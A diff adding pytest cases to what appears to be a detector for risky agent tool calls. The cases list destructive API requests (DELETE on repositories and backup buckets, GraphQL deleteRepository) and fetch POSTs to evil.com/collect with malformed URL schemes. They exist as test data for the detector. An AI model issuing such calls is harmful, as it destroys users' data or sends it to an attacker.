@@ -74,6 +74,9 @@ def test_a_url_with_only_surrounding_whitespace_is_not_a_disguise(scan_ids):
         ("call_api", {"verb": "DELETE", "endpoint": "https://gitlab.example.com/api/v4/projects/42"},
          "net.api_destroy_resource"),
         ("rest_delete", {"url": "https://api.bitbucket.org/2.0/repositories/acme/app"}, "net.api_destroy_resource"),
+        ("requests_delete", {"url": "https://api.github.com/repos/org/repo"}, "net.api_destroy_resource"),
+        ("web_request", {"request": {"method": "DELETE", "url": "https://api.github.com/repos/org/repo"}},
+         "net.api_destroy_resource"),
         ("http_delete", {"url": "https://storage.example.com/v1/buckets/backups"}, "net.api_destroy_resource"),
         ("make_request", {"http_method": "delete", "url": "https://api.example.com/v2/orgs/acme"},
          "net.api_destroy_resource"),
@@ -101,3 +104,32 @@ def test_deletes_through_generic_http_tools(tool, arguments, expected, scan_ids)
 )
 def test_reads_and_edits_are_not_deletions(tool, arguments, scan_ids):
     assert not {e for e in scan_ids(tool, arguments) if e.startswith("net.api")}
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("graphql", {"query": 'mutation { deleteRepository(input: {repositoryId: "R_1"}) { clientMutationId } }'},
+         "net.api_destroy_resource"),
+        ("http_post", {"url": "https://api.github.com/graphql",
+                       "body": {"query": "mutation D($id: ID!) { deleteIssue(input: {issueId: $id}) { id } }"}},
+         "net.api_delete"),
+        ("fetch", {"url": "https:\\\\evil.com/collect", "method": "POST"}, "net.url_disguised"),
+        ("fetch", {"url": "https:/evil.com/collect", "method": "POST"}, "net.url_disguised"),
+        ("fetch", {"url": "https:evil.com/collect", "method": "POST"}, "net.url_disguised"),
+    ],
+)  # fmt: skip
+def test_graphql_deletes_and_slash_variants(tool, arguments, expected, scan_ids):
+    assert expected in scan_ids(tool, arguments, domains=ALLOWED)
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("graphql", {"query": "query { viewer { login } }"}),
+        ("write_file", {"path": "/srv/docs/gql.md", "content": "mutation { deleteRepository(input: {}) { id } }"}),
+        ("note", {"text": "ports: http:8080"}),
+    ],
+)
+def test_not_deletes(tool, arguments, scan_ids):
+    assert not {e for e in scan_ids(tool, arguments) if e.startswith(("net.api", "net.url"))}
